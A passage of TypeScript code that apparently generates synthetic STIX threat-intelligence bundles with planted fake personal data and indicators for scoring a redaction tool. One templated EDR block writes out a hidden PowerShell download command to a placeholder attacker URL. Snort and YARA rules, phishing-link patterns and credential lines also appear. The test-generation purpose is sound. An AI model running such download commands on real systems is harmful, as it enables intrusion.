          `May ${this.day} 03:14:00 ${host} udhcpd[301]: sending ACK to ${vip}, hostname ${phoneHost}`,
        ].join('\n');
      }
      case 'mail': {
        const staff = this.newPerson();
        const cust = this.newPerson();
        const dom = this.domains[r.int(0, 1)];
        const subjectLead = this.account('ticket', 'mail-subject');
        return [
          `-----Original Message-----`,
          `From: ${this.person('mail-header', staff, 'native')} <${this.email('mail-header-staff', staff, dom)}>`,
          `Sent: ${this.date()} 09:${r.int(10, 59)}`,
          `To: ${this.person('mail-header', cust, 'latin')} <${this.email('mail-header-customer', cust)}>`,
          `Cc: ${this.email('mail-cc', this.newPerson(), dom)}`,
          `Subject: RE: [${subjectLead}] ${this.model} / ${this.serial('mail-subject')}`,
          `Received: from mail.${dom} (mail.${dom} [${this.vpub('received-header')}]) by mx2.${dom} with ESMTPS id ${r.hex(12)}`,
          `X-Originating-IP: [${this.vip('x-originating-ip')}]`,
          '',
          this.fill(this.lang.templates[3], 'mail-body'),
          '',
          this.lang.greeting,
          this.person('signature', staff, 'native'),
          `${this.lang.title} | ${this.org}`,
          `Tel. ${this.phone('signature', 'intl')} | Mobil ${this.phone('signature')}`,
          this.addr('signature'),
        ].join('\n');
      }
      case 'chat': {
        const a = this.newPerson();
        const b = this.newPerson();
        const ha = this.person('chat-speaker', a, r.pick(['native', 'latin']));
        const hb = this.loginPlant('chat-handle', b);
        const lines = this.lang.chat.map((l) => this.fill(l, 'chat'));
        return [
          `[03:21] ${ha}: ${lines[0]}`,
          `[03:22] ${hb}: ${lines[1]}`,
          `[03:24] ${ha}: ${lines[2]}`,
          `[03:25] ${hb}: @${this.login(a)} plate of the service van was ${this.plate('chat')}, parked in front of ${this.addr('chat')}`,
        ].join('\n');
      }
      case 'csv': {
        const sep = r.pick([';', ',']);
        const rows = [[...this.lang.csv, 'IBAN'].join(sep)];
        for (let i = 0; i < r.int(2, 4); i++) {
          const p = this.newPerson();
          const name = this.person('csv', p, r.pick(['native', 'comma', 'upper']));
          const addr = this.addr('csv');
          const q = (s: string): string => (s.includes(sep) || s.includes(',') ? `"${s}"` : s);
          rows.push([q(name), this.email('csv', p), this.phone('csv'), this.serial('csv'), q(addr), this.account('customer-id', 'csv'), this.iban('csv')].join(sep));
        }
        return rows.join('\n');
      }
      case 'json': {
        const [la, lo] = this.gpsPair('json');
        const name = this.person('json');
        const msisdn = this.msisdn('json');
        const obj = {
          ts: ts(), event: 'c2_beacon',
          src: { ip: this.vip('json'), mac: this.mac('json', 'hyphen').shown, hostname: this.host('json') },
          dst: { ip: inv.c2ips[0], port: inv.port, sni: inv.doms[0] },
          subscriber: { name, msisdn: `+${msisdn.e164}`, imsi: this.imsi('json'), iccid: this.iccid('json') },
          geo: { lat: Number(la), lon: Number(lo) },
        };
        const text = JSON.stringify(obj, null, r.chance(0.5) ? 2 : undefined);
        return r.chance(0.4) ? jsonUnicodeEscaped(text) : text;
      }
      case 'hl7': {
        const p = this.newPerson(r.chance(0.5) ? this.lang.latin : 'world');
        const fam = this.plant('person:hl7-pid', `${p.lf.toUpperCase()}^${p.lg}`, [{ kind: 'word', value: p.lf }], 'HL7 PID-5');
        const street = this.lang.address(r);
        this.plant('address:hl7-pid', street.leak, [{ kind: 'text', value: street.leak }], 'HL7 PID-11');
        const ph = this.lang.phone(r);
        this.plant('phone:hl7-pid', ph.national, [{ kind: 'digits', value: ph.nsn }], 'HL7 PID-13');
        return [
          `MSH|^~\\&|INFUSION-GW|${this.model.replace(/\s/g, '')}|HIS|WARD${r.int(1, 9)}|202405${p2(this.day)}031244||ORU^R01|MSG${r.digits(8)}|P|2.5`,
          `PID|1||${this.account('mrn', 'hl7-pid')}^^^HOSP^MR||${fam}||${this.dob('hl7-pid', true)}|${r.pick(['F', 'M'])}|||${street.leak}^^^^${r.digits(5)}||${ph.national}`,
          `PV1|1|I|ICU^${r.int(1, 20)}^B`,
          `OBX|1|NM|2339-0^Glucose^LN||${r.int(70, 260)}|mg/dL|||||F`,
          `NTE|1||pump firmware replaced after beacon to ${inv.c2ips[0]}`,
        ].join('\n');
      }
      case 'sip': {
        const prn = inv.prn.replace(/\D/g, '').replace(/^00/, '');
        this.threat('premium-number:sip-request-uri', inv.prn, { kind: 'digits', value: prn }, 'SIP INVITE');
        const m = this.msisdn('sip-from');
        const core = `ims.mnc${this.lang.mcc.slice(3).padStart(3, '0')}.mcc${this.lang.mcc.slice(0, 3)}.3gppnetwork.org`;
        const vip = this.vip('sip-contact');
        return [
          `INVITE sip:+${prn}@${core} SIP/2.0`,
          `Via: SIP/2.0/UDP ${vip}:5060;branch=z9hG4bK${r.hex(10)}`,
          `From: "${this.person('sip-display-name', undefined, 'latin')}" <sip:+${m.e164}@${core}>;tag=${r.hex(8)}`,
          `To: <sip:+${prn}@${core}>`,
          `P-Asserted-Identity: <tel:+${m.e164}>`,
          `Contact: <sip:+${m.e164}@${vip}:5060>`,
          `User-Agent: ${this.model.replace(/\s/g, '')}/2.1.${r.int(0, 9)}`,
        ].join('\n');
      }
      case 'diameter': {
        const mnc = this.lang.mcc.slice(3).padStart(3, '0');
        const m = this.msisdn('diameter');
        return [
          `Diameter ULR hbh=0x${r.hex(8)} e2e=0x${r.hex(8)} (S6a)`,
          `  Session-Id: mme0${r.int(1, 4)}.epc.mnc${mnc}.mcc${this.lang.mcc.slice(0, 3)}.3gppnetwork.org;${r.digits(9)};${r.digits(5)}`,
          `  User-Name: ${this.imsi('diameter')}`,
          `  Terminal-Information: IMEI=${this.imei('diameter').replace(/\D/g, '').slice(0, 14)}, Software-Version=03`,
          `  Subscription-Data: MSISDN=${m.e164}, APN=iot.${this.bl}.${CCTLD[this.lang.country]}`,
          `  note: ULR originated from unexpected peer ${inv.c2ips[1]} (roaming partner spoof)`,
        ].join('\n');
      }
      case 'mqtt': {
        const serial = this.serial('mqtt-client-id');
        const [la, lo] = this.gpsPair('mqtt-payload');
        const t = 1715656364 + r.int(0, 9999);
        return [
          `${t}: New client connected from ${this.vip('mqtt')}:${r.int(30000, 60000)} as meter-${serial} (p2, c1, k60, u'${this.loginPlant('mqtt-user')}').`,
          `${t + 1}: Received PUBLISH from meter-${serial} (d0, q1, r0, m${r.int(100, 9999)}, 'tenants/${this.account('customer-id', 'mqtt-topic')}/meters/${serial}/telemetry', ... (212 bytes))`,
          `payload: {"meterId":"${serial}","owner":"${this.person('mqtt-payload', undefined, 'native')}","kwh":${r.int(1000, 99999) / 10},"lat":${la},"lon":${lo}}`,
          `${t + 7}: New connection from ${inv.c2ips[0]}:${r.int(30000, 60000)} on port 1883.`,
          `${t + 7}: Client bot-${r.hex(6)} subscribed to 'tenants/#'`,
        ].join('\n');
      }
      case 'modbus': {
        const host = this.host('modbus');
        return [
          `2024-05-${p2(this.day)} 03:14:07.221 WARN  modbus-gw FC16 write unit=3 addr=40001 qty=4 from ${this.vip('modbus-master')} (${host})`,
          `2024-05-${p2(this.day)} 03:14:07.930 ALERT modbus-gw unexpected master ${inv.c2ips[1]}:${r.int(30000, 60000)} -> ${this.vip('modbus-plc')}:502 FC05 coil=17 ON`,
          `2024-05-${p2(this.day)} 03:15:00.002 INFO  eng-station session opened by ${this.loginPlant('modbus')} on ${host} (operator on duty: ${this.person('modbus-operator')}, ext. ${this.phone('modbus')})`,
        ].join('\n');
      }
      case 'edr': {
        const p = this.newPerson();
        const win = this.userPath('edr', true, p);
        const unix = this.userPath('edr', false);
        const sid = `S-1-5-21-${r.int(1e9, 4e9)}-${r.int(1e9, 4e9)}-${r.int(1e9, 4e9)}-${r.int(1000, 9999)}`;
        this.plant('sid:edr', sid, [{ kind: 'text', value: sid }], 'EDR event');
        return [
          `EventID=4688 Host=${this.host('edr', p)} User=${this.adDomain}\\${win.login} SID=${sid}`,
          `NewProcessName=${win.path}`,
          `CommandLine=powershell -nop -w hidden -c "iwr ${inv.url} -OutFile ${win.path}"`,
          `auditd: type=PATH name="${unix.path}" nametype=CREATE uid=1000 comm="sshd"`,
          `Owner of workstation: ${this.person('edr-owner', p)} (${this.account('employee-id', 'edr')})`,
        ].join('\n');
      }
      case 'secrets': {
        const p = this.newPerson();
        return [
          `Credentials found in the dropped config (rotated since):`,
          `  api_key=${this.secret('config', p)}`,
          `  Authorization: Bearer ${this.secret('http-header', p)}`,
          `  portal password of ${this.loginPlant('secrets', p)}: ${this.secret('password', p)}`,
        ].join('\n');
      }
      case 'encoded': {
        const p = this.newPerson();
        const name = this.person('percent-encoded', p, 'native');
        const mail = this.email('percent-encoded', p);
        const m = this.msisdn('percent-encoded');
        const htmlName = this.person('html-entities', undefined, 'native');
        const htmlAddr = this.addr('html-entities');
        return [
          `${inv.c2ips[0]} - - [${p2(this.day)}/May/2024:03:12:55 +0000] "GET /selfcare/login?user=${encodeURIComponent(mail)}&name=${encodeURIComponent(name)}&msisdn=${encodeURIComponent(`+${m.e164}`)} HTTP/1.1" 302 0 "-" "${inv.ua}"`,
          `<tr><td>${htmlEntities(htmlName)}</td><td>${htmlEntities(htmlAddr)}</td></tr>`,
        ].join('\n');
      }
      case 'payment': {
        return [
          `Refund request ${this.account('ticket', 'payment')}: account holder ${this.person('payment')}, IBAN ${this.iban('payment')};`,
          `card ${this.card('payment')} (exp ${p2(r.int(1, 12))}/${r.int(25, 29)}) was charged for the premium calls; customer no. ${this.account('customer-id', 'payment')}.`,
        ].join('\n');
      }
      case 'car': {
        const track = [this.gpsPair('car-track'), this.gpsPair('car-track')].map(([a, b]) => `${a},${b}`).join(';');
        return [
          `TCU dump ${ts()}`,
          `VIN=${this.vin('tcu')} plate="${this.plate('tcu')}" driver_profile="${this.person('tcu-driver', undefined, 'native')}" dob=${this.dob('tcu')}`,
          `gps_track=[${track}]`,
          `modem IMEI ${this.imei('tcu')} ICCID ${this.iccid('tcu')} EID ${this.eid('tcu')}`,
          `mqtts session to ${inv.doms[0]}:8883 after OTA hijack`,
        ].join('\n');
      }
      case 'ocpp': {
        const serial = this.serial('ocpp');
        const idTag = r.hex(14).toUpperCase();
        this.plant('rfid:ocpp-idtag', idTag, [{ kind: 'alnum', value: idTag.toLowerCase() }], 'OCPP idTag');
        const emaid = `${this.lang.country}-${r.chars(3, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}-C${r.digits(8)}-${r.int(0, 9)}`;
        this.plant('emaid:ocpp', emaid, [{ kind: 'alnum', value: emaid.toLowerCase().replace(/[^a-z0-9]/g, '') }], 'OCPP contract id');
        return [
          `>> [2,"${r.hex(8)}","BootNotification",{"chargePointModel":"${this.model}","chargePointSerialNumber":"${serial}","iccid":"${this.iccid('ocpp')}","imsi":"${this.imsi('ocpp')}"}]`,
          `>> [2,"${r.hex(8)}","Authorize",{"idTag":"${idTag}"}]`,
          `>> [2,"${r.hex(8)}","StartTransaction",{"connectorId":1,"idTag":"${idTag}","meterStart":${r.int(1000, 90000)},"timestamp":"${ts()}","contractId":"${emaid}"}]`,
          `<< ChangeConfiguration CentralSystemUrl=ws://${inv.c2ips[0]}:9000/ocpp/${serial}`,
        ].join('\n');
      }
      case 'ini': {
        const p = this.newPerson();
        const ssid = this.plant('person:wifi-ssid', `${p.lf}-Home`, [{ kind: 'word', value: p.lf }], 'INI ssid');
        return [
          '[network]',
          `ssid=${ssid}`,
          `psk=${this.secret('ini-psk')}`,
          '[ocpp]',
          `ChargeBoxId=${this.serial('ini')}`,
          `CentralSystemUrl=wss://ocpp.${this.domains[0]}/ocpp16/`,
          '[owner]',
          `name=${this.person('ini-owner', p, 'native')}`,
          `phone=${this.phone('ini')}`,
        ].join('\n');
      }
      case 'yaml': {
        const [la, lo] = this.gpsPair('yaml');
        return [
          'device:',
          `  serial: ${this.serial('yaml')}`,
          `  owner: "${this.person('yaml-owner')}"`,
          `  location: { lat: ${la}, lon: ${lo} }`,
          `  address: "${this.addr('yaml')}"`,
          'cellular:',
          `  apn: iot.${this.bl}.${CCTLD[this.lang.country]}`,
          `  imsi: "${this.imsi('yaml')}"`,
          'mqtt:',
          `  broker: mqtts://${inv.doms[0]}:8883   # changed by the attacker`,
          `  username: ${this.loginPlant('yaml')}`,
          `  password: "${this.secret('yaml')}"`,
        ].join('\n');
      }
      case 'table': {
        const rows = ['| Name | Role | Phone | Email | Emp. ID |', '|---|---|---|---|---|'];
        for (let i = 0; i < r.int(2, 3); i++) {
          const p = this.newPerson();
          rows.push(`| ${this.person('markdown-table', p)} | ${r.pick(['on-call', 'field service', 'OT engineer', 'billing'])} | ${this.phone('markdown-table')} | ${this.email('markdown-table', p, this.domains[0])} | ${this.account('employee-id', 'markdown-table')} |`);
        }
        return rows.join('\n');
      }
      default:
        throw new Error(`v5: unknown block ${kind}`);
    }
  }

  /** Threat-side text a CTI analyst pastes: detection rules, JA3, wallet. */
  threatText(): string {
    const inv = this.inv;
    const r = this.r;
    const sid = r.int(9000000, 9999999);
    const content = r.pick(['|de ad be ef|', 'POST /gate.php', 'X-Bot-Id:', '/bins/']);
    const snort = `alert tcp $HOME_NET any -> ${inv.c2ips[0]} ${inv.port} (msg:"${inv.family} C2 beacon"; flow:to_server,established; content:"${content}"; sid:${sid}; rev:1;)`;
    this.threat('snort:text', snort, { kind: 'text', value: snort }, 'note content');
    this.threat('ja3:text', inv.ja3, { kind: 'text', value: inv.ja3 }, 'note content');
    return [`Snort: ${snort}`, `JA3 of the implant: ${inv.ja3}`, `Attacker wallet: ${this.threat('wallet:text', inv.wallet, { kind: 'text', value: inv.wallet }, 'note')}`].join('\n');
  }

  yara(): string {
    const inv = this.inv;
    const name = `${inv.family.replace(/\W/g, '_')}_${this.r.hex(6)}`;
    const rule = `rule ${name} { strings: $a = "${inv.file}" $b = { ${this.r.hex(8).replace(/(..)/g, '$1 ').trim()} } condition: all of them }`;
    this.threat('yara:pattern', rule, { kind: 'pattern', value: rule }, 'yara indicator');
    return rule;
  }
}

// ---------------------------------------------------------------- bundle assembly

function sco(type: string, props: Record<string, unknown>): StixObject {
  const o: Record<string, unknown> = { type, spec_version: '2.1', ...props };
  o.id = deterministicObservableId(o) ?? `${type}--00000000-0000-4000-8000-000000000000`;
  return o as StixObject;
}

const GENERIC_BLOCKS = ['mail', 'chat', 'csv', 'json', 'edr', 'secrets', 'encoded', 'table', 'payment', 'yaml'];

export function generateCaseV5(seed: number, index: number): GeneratedCase {
  const r = new Rng((Math.imul(seed >>> 0, 2654435761) ^ Math.imul(index + 1, 40503)) >>> 0);
  const lang = LANGS[index % LANGS.length];
  const device = r.pick(DEVICES);
  const b = new CaseBuilder(r, lang, device, index);
  const inv = b.inv;
  const objects: StixObject[] = [];
  const common = (type: string): StixObject => {
    const t = b.timestamp();
    return { type, spec_version: '2.1', id: b.id(type), created: t, modified: t };
  };

  // The submitter and its markings.
  const leadName = b.person('identity-contact', b.lead, 'native');
  b.planted.pop(); // the lead is an identity term, scored as an identity leak instead
  const submitter = { ...common('identity'), name: b.org, identity_class: 'organization', sectors: [device.sector], contact_information: `PSIRT: ${leadName}, psirt@${b.domains[0]}, ${b.phone('identity-contact', 'intl')}` } as StixObject;
  objects.push(submitter);
  const creator = { created_by_ref: submitter.id };
  const statement = { type: 'marking-definition', spec_version: '2.1', id: b.id('marking-definition'), created: b.timestamp(), definition_type: 'statement', definition: { statement: `Copyright 2024 ${b.org}. Internal – ${b.brand} PSIRT` }, ...creator } as StixObject;
  const markings = r.chance(0.5) ? { object_marking_refs: [statement.id] } : {};
  if (markings.object_marking_refs) objects.push(statement);

  // A customer identity (individual) where the sighting was made.
  let where: StixObject = submitter;
  if (r.chance(0.35)) {
    const p = b.newPerson();
    where = { ...common('identity'), ...creator, name: b.person('identity-name', p, 'native'), identity_class: 'individual', contact_information: `${b.email('identity-contact', p)} / ${b.phone('identity-contact')}` } as StixObject;
    objects.push(where);
  }

  // Observables.
  const victimIp = sco('ipv4-addr', { value: b.vip('sco') });
  const c2Ip = sco('ipv4-addr', { value: inv.c2ips[0] });
  b.threat('ip:c2-sco', inv.c2ips[0], { kind: 'sco', type: 'ipv4-addr', property: 'value', value: inv.c2ips[0] }, 'ipv4-addr SCO, dst of traffic');
  const traffic = sco('network-traffic', { src_ref: victimIp.id, dst_ref: c2Ip.id, dst_port: inv.port, protocols: ['ipv4', 'tcp'] });
  const dom = sco('domain-name', { value: inv.doms[0], resolves_to_refs: [c2Ip.id] });
  b.threat('domain:sco', inv.doms[0], { kind: 'sco', type: 'domain-name', property: 'value', value: inv.doms[0] }, 'domain-name SCO');
  const url = sco('url', { value: inv.url });
  b.threat('url:sco', inv.url, { kind: 'sco', type: 'url', property: 'value', value: inv.url }, 'url SCO');
  const file = sco('file', { name: inv.file, hashes: { MD5: inv.md5, 'SHA-256': inv.sha256 } });
  const macSco = sco('mac-addr', { value: b.mac('sco', 'sco').shown });
  const accountPerson = b.newPerson();
  const account = sco('user-account', { user_id: b.loginPlant('user-account', accountPerson), account_login: b.login(accountPerson), display_name: b.person('user-account-display-name', accountPerson, 'native') });
  const mailPerson = b.newPerson();
  const victimMail = sco('email-addr', { value: b.email('email-addr-sco', mailPerson), display_name: b.person('email-addr-display-name', mailPerson, 'native') });
  const observables = [victimIp, c2Ip, traffic, dom, url, file, macSco, account, victimMail];
  if (inv.attackerEmail) {
    const from = sco('email-addr', { value: inv.attackerEmail });
    const msg = sco('email-message', {
      is_multipart: false, from_ref: from.id, to_refs: [victimMail.id],
      subject: `${b.person('email-subject', undefined, 'native')}: ${lang.code === 'de' ? 'Ihre Rechnung' : 'your invoice'} ${b.account('contract', 'email-subject')}`,
      body: `${b.fill(lang.templates[3], 'email-body')}\n${inv.phishBase}`,
    });
    observables.push(from, msg);
    b.threat('email:from-sco', inv.attackerEmail, { kind: 'sco', type: 'email-addr', property: 'value', value: inv.attackerEmail }, 'email-message from_ref');
  }
  if (r.chance(0.3)) {
    const m = b.mac('ipv6-eui64', 'colon');
    const o = m.hex.match(/../g) as string[];
    const iid = [`${(parseInt(o[0], 16) ^ 2).toString(16).padStart(2, '0')}${o[1]}`, `${o[2]}ff`, `fe${o[3]}`, `${o[4]}${o[5]}`].map((g) => g.replace(/^0+(?=.)/, ''));
    const v6 = `2a02:810d:${r.hex(4).replace(/^0+(?=.)/, '')}:${r.hex(4).replace(/^0+(?=.)/, '')}:${iid.join(':')}`;
    b.planted.pop();
    b.plant('mac:eui64-in-ipv6', v6, [{ kind: 'iid', value: iid.map((g) => g.padStart(4, '0')).join('') }, { kind: 'alnum', value: m.hex }], 'ipv6-addr SCO');
    observables.push(sco('ipv6-addr', { value: v6 }));
  }
  objects.push(...observables);
  const t0 = b.timestamp(-1);
  const observed = { ...common('observed-data'), ...creator, first_observed: t0, last_observed: b.timestamp(), number_observed: r.int(1, 40), object_refs: observables.map((o) => o.id) } as StixObject;
  objects.push(observed);

  // Indicators.
  const indicator = (name: string, pattern: string, type = 'stix', extra: Record<string, unknown> = {}): StixObject => {
    const o = { ...common('indicator'), ...creator, name, pattern, pattern_type: type, valid_from: b.timestamp(), indicator_types: ['malicious-activity'], ...extra } as StixObject;
    objects.push(o);
    return o;
  };
  const inds: StixObject[] = [
    indicator(`${inv.family} C2`, `[ipv4-addr:value = '${inv.c2ips[0]}']`, 'stix', { description: b.fill(`C2 server contacted by the ${inv.family} implant on the device of {cust}.`, 'indicator-description') }),
    indicator('C2 domains', `[domain-name:value = '${inv.doms[0]}'] OR [domain-name:value = '${inv.doms[1]}']`),
    indicator('Payload URL', `[url:value = '${inv.url}']`),
    indicator('Payload', `[file:hashes.'SHA-256' = '${inv.sha256}' AND file:name = '${inv.file}']`),
    indicator('Beacon from the compromised host', `[network-traffic:src_ref.value = '${b.vip('pattern')}' AND network-traffic:dst_ref.value = '${inv.c2ips[1]}' AND network-traffic:dst_port = ${inv.port}]`),
    indicator('Implant user agent', `[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = '${inv.ua}']`),
    indicator('YARA', b.yara(), 'yara'),
  ];
  if (inv.attackerEmail) inds.push(indicator('Phishing sender', `[email-message:from_ref.value = '${inv.attackerEmail}']`));
  if (inv.phishBase) {
    const victimEmail = b.email('phishing-url-query');
    inds.push(indicator('Personalised phishing link', `[url:value = '${inv.phishBase}?email=${victimEmail}&cid=${b.account('customer-id', 'phishing-url-query')}']`));
  }

  // Threat SDOs and relationships.
  const malware = { ...common('malware'), ...creator, name: inv.family, is_family: true, malware_types: [r.pick(['bot', 'ransomware', 'backdoor'])], sample_refs: [file.id] } as StixObject;
  const vuln = { ...common('vulnerability'), ...creator, name: inv.cve, external_references: [{ source_name: 'cve', external_id: inv.cve }] } as StixObject;
  objects.push(malware, vuln);
  const rel = (source: string, type: string, target: string): void => void objects.push({ ...common('relationship'), ...creator, relationship_type: type, source_ref: source, target_ref: target } as StixObject);
  for (const ind of inds) rel(ind.id, 'indicates', malware.id);
  rel(malware.id, 'exploits', vuln.id);
  if (inv.actor) {
    const set = { ...common('intrusion-set'), ...creator, name: inv.actor } as StixObject;
    objects.push(set);
    rel(set.id, 'uses', malware.id);
  }

  // Free text with the embedded material.
  const blocks = [...r.shuffle([...device.blocks]).slice(0, 2), ...r.shuffle(GENERIC_BLOCKS.filter((k) => !device.blocks.includes(k))).slice(0, 2)];
  const text = blocks.map((k) => b.block(k));
  const ticket = b.account('ticket', 'external-reference');
  const incident = {
    ...common('incident'), ...creator, ...markings,
    name: `${b.brand} ${b.model}: ${inv.family} (${b.account('ticket', 'incident-name')})`,
    description: `${b.prose('incident')}\n\n${text[0]}`,
    external_references: [
      { source_name: 'jira', external_id: ticket, url: `https://jira.${b.domains[0]}/browse/${ticket}` },
      { source_name: 'mitre-attack', external_id: 'T1071.001', url: 'https://attack.mitre.org/techniques/T1071/001/' },
    ],
    labels: [`${b.bl}-tip-export`, device.kind],
    [`x_${b.bl}_analyst`]: b.person('x-property', undefined, 'native'),
    x_customer_no: b.account('contract', 'x-property'),
  } as StixObject;
  objects.push(incident);
  const second = r.chance(0.4) ? LANGS[(index + 5) % LANGS.length] : lang;
  const authorPerson = b.newPerson();
  const note = {
    ...common('note'), ...creator,
    abstract: `${b.person('note-abstract')} – ${b.account('ticket', 'note-abstract')}`,
    content: `${b.prose(`note-${second === lang ? 'same' : 'second'}-language`, second)}\n\n${text[1]}\n\n${text[2]}\n\n${b.threatText()}`,
    authors: [b.person('note-authors', authorPerson, 'native')],
    object_refs: [incident.id, observed.id],
  } as StixObject;
  objects.push(note);
  const sighting = {
    ...common('sighting'), ...creator,
    sighting_of_ref: inds[0].id, where_sighted_refs: [where.id], observed_data_refs: [observed.id],
    first_seen: t0, last_seen: b.timestamp(), count: r.int(1, 60),
    description: text[3] ?? b.fill(lang.templates[6], 'sighting'),
  } as StixObject;
  objects.push(sighting);
  if (r.chance(0.35)) {
    objects.push({ ...common('opinion'), ...creator, opinion: 'agree', object_refs: [incident.id], explanation: b.fill(lang.chat[0], 'opinion') } as StixObject);
  }
  objects.push({
    ...common('report'), ...creator, ...markings,
    name: `${b.brand} PSIRT ${b.account('ticket', 'report-name')}: ${inv.family} on ${b.model}`,
    description: b.fill(lang.templates[0], 'report'),
    report_types: ['incident'], published: b.timestamp(),
    object_refs: [incident.id, note.id, observed.id, malware.id, ...inds.map((i) => i.id)],
  } as StixObject);

  const profile: SubmitterProfile = {
    names: [b.org, b.brand],
    domains: b.domains,
    brands: [b.brand],
    products: [b.model, `${b.brand} ${b.model}`],
    staff: [`${b.lead.given}${b.lead.culture.joiner}${b.lead.family}`],
    // A registered netblock is victim-side by rule; never register one that also holds the C2.
    netblocks: device.sector === 'telecommunications' && r.chance(0.5) && !inv.c2ips.some((ip) => ip.startsWith(`${b.vpubNet}.`)) ? [`${b.vpubNet}.0/24`] : [],
    country: lang.country,
    languages: [lang.code],
    sectors: [device.sector],
    memberRegistry: { [device.sector]: { [lang.country]: 9 } },
  };
  const bundle: StixBundle = { type: 'bundle', id: b.id('bundle'), objects };
  return { index, lang: lang.code, device: device.kind, bundle, profile, planted: b.planted, threats: b.threats, identity: b.identity };
}
